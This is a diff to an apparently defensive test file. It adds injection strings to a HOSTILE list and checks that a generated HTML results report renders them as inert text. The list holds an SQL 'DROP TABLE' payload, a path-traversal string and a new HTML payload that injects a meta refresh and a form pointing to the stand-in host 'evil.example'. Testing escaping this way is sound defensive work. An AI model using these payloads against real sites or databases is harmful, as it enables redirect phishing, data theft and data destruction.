@@ -24,6 +24,7 @@ HOSTILE = (
     "&lt;b&gt;already&amp;escaped",
     "../../etc/passwd\\..\\x",
     "'; DROP TABLE latents; --",
+    '"><meta http-equiv=refresh content="0;url=http://evil.example"><form action=http://evil.example>',
 )
 
 
@@ -58,7 +59,10 @@ def _record(table, row, value, **changes):
 def _results(folder):
     store = Store(folder / "stored")
     for k, words in enumerate(HOSTILE):
-        store.write(_record("some.table2", words, 0.5 + 0.01 * k, title=_named(0), command=words))
+        told = {"command": words, "data": words, "code": words}
+        store.write(_record("some.table2", words, 0.5 + 0.01 * k, title=_named(0), **told))
+        table = f"{words}.figure2"[-60:].replace("/", "")  # part of a file's name too
+        store.write(_record(table, words, 0.5, title=words, **told))
     report.results(folder / "results.html", store.folder, title=_named(0), notes=_named(1))
 
 
@@ -170,7 +174,7 @@ def test_hostile_words_are_text_and_nobody_is_kept_out(browser, pages, name):
                 page.wait_for_selector("html[data-drawn]")
             assert (page.title() == page.inner_text("h1") == HOSTILE[0]) == (name in NAMES)
             assert "taken" not in page.title() or name in NAMES
-            assert page.query_selector("img[src=x], svg[onload]") is None
+            assert page.query_selector("img[src=x], svg[onload], form, meta[http-equiv=refresh]") is None
             assert page.query_selector("[onerror], [onload], a[href^=javascript]") is None
             shown = page.evaluate("document.body.textContent")
             least = {"explorer": 4, "scores": 0}  # scores show no names
